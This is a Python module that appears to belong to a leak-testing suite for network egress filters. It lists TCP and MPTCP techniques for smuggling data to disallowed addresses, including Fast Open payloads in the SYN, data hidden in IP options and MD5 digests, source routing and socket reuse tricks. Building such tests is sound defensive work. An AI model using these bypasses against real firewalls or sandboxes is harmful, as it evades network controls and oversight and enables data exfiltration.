"""TCP and MPTCP towards an address that no rule allows: the SYN alone is a leak, for the address carries what one likes."""
import ctypes, os, socket, struct
from datagrams import FAMILIES_OF, set_option
from technique import technique, variants

MPTCP = 262
FAST_OPEN = 0x20000000


@variants('stream', {'https': 443, 'http': 80, 'ssh': 22, 'smtp': 25, 'dot': 853, 'other': 9999})
def tcp_port(a, port):
    s = a.tcp()
    yield
    a.start(s, port=port)


@variants('stream', {name: {'name': name, 'options': {'families': FAMILIES_OF.get(name, (4, 6)), 'optional': name in ('transmit_time', 'bound_to_index')}}
                     for name in ('hops_1', 'bound_to_device', 'bound_to_index', 'unicast_interface', 'tos', 'priority', 'dont_route',
                                  'record_route', 'timestamps', 'busy_poll', 'timestamping', 'flow_label')})
def tcp_option(a, value):
    s = a.tcp()
    set_option(a, s, value['name'])
    yield
    a.start(s)


@technique('stream')
def tcp_many(a):
    yield
    for port in range(440, 448):
        s = a.tcp()
        a.start(s, port=port)
        s.close()


@technique('stream')
def tcp_blocking(a):
    s = a.tcp()
    s.settimeout(0.3)
    yield
    try: s.connect((a.own, 443))
    except TimeoutError: pass


@technique('stream', optional=True)
def tcp_foreign_source(a):
    s = a.tcp()
    s.setsockopt(socket.IPPROTO_IP, 15, 1)
    s.bind((a.own, 0))
    yield
    a.start(s, a.shared)


@variants('stream', {'sendto': 0, 'connect': 30})
def fast_open(a, option):
    s = a.tcp()
    if option: s.setsockopt(socket.IPPROTO_TCP, option, 1)
    s.setsockopt(socket.IPPROTO_TCP, 34, 1)  # TCP_FASTOPEN_NO_COOKIE: data in the first SYN
    yield
    s.setblocking(False)
    if option:
        s.connect_ex((a.own, 443))
        s.send(a.data)
    else:
        s.sendto(a.data, FAST_OPEN, (a.own, 443))


@technique('stream')
def fast_open_at_allowed(a):
    """Data in the SYN to an allowed address that is no allowed hello."""
    a.resolve()
    s = a.tcp()
    s.setsockopt(socket.IPPROTO_TCP, 34, 1)
    yield
    s.setblocking(False)
    s.sendto(a.noise, FAST_OPEN, (a.shared, 443))


@technique('stream')
def mptcp(a):
    s = a.socket(socket.SOCK_STREAM, MPTCP)
    yield
    a.start(s)


@technique('stream')
def mptcp_fast_open(a):
    s = a.socket(socket.SOCK_STREAM, MPTCP)
    s.setsockopt(socket.IPPROTO_TCP, 34, 1)
    yield
    s.setblocking(False)
    s.sendto(a.data, FAST_OPEN, (a.own, 443))


@technique('stream', families=(4,))
def tcp_mapped(a):
    s = a.tcp(af=socket.AF_INET6)
    yield
    a.start(s, '::ffff:' + a.own)


@technique('stream', privileged=True)
def tcp_source_route(a):
    """A SYN to an allowed address, over one that is not."""
    a.resolve()
    s = a.tcp()
    if a.family == 4: s.setsockopt(0, 4, a.route())
    else: s.setsockopt(41, 57, a.segments(a.own))
    yield
    a.start(s, a.shared)


@technique('stream', families=(4,))
def tcp_options_carry_data(a):
    """36 bytes of an IPv4 option, in a SYN that an allowed address gets."""
    s = a.tcp()
    s.setsockopt(0, 4, bytes([7, 39, 40]) + (a.binary * 6) + b'\0')
    yield
    a.start(s)


@technique('stream')
def tcp_md5(a):
    """The digest in the SYN is the user's to choose."""
    s = a.tcp()
    place = struct.pack('>H4s', 443, socket.inet_aton(a.own)) if a.family == 4 else struct.pack('>HI16s', 443, 0, socket.inet_pton(10, a.own))
    s.setsockopt(socket.IPPROTO_TCP, 14, struct.pack('H', a.af) + place.ljust(126, b'\0') + struct.pack('BBHi80s', 0, 0, 8, 0, b'password'))
    yield
    a.start(s)


@technique('stream')
def tcp_reconnected(a):
    """A socket that had an allowed connection, turned to another place."""
    s = a.dial()
    yield
    disconnect(s)
    a.start(s)


def disconnect(s):
    ctypes.CDLL(None).connect(s.fileno(), struct.pack('H14x', 0), 16)


@technique('stream')
def tcp_same_port(a):
    """The port that an allowed connection has. bind() chose it, so connect() gives it to no other socket."""
    a.resolve()
    first, s = a.tcp(), a.tcp()
    for one in (first, s): one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    first.bind(('', 0))
    s.bind(('', first.getsockname()[1]))
    first.connect((a.shared, 443))
    first.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
    first.close()
    yield
    a.start(s)


@technique('stream')
def tcp_forked(a):
    s = a.tcp()
    yield
    if os.fork() == 0:
        a.start(s)
        os._exit(0)
    os.wait()


@technique('stream')
def tcp_nonblocking_then_shutdown(a):
    s = a.tcp()
    yield
    a.start(s)
    try: s.shutdown(socket.SHUT_RDWR)
    except OSError: pass
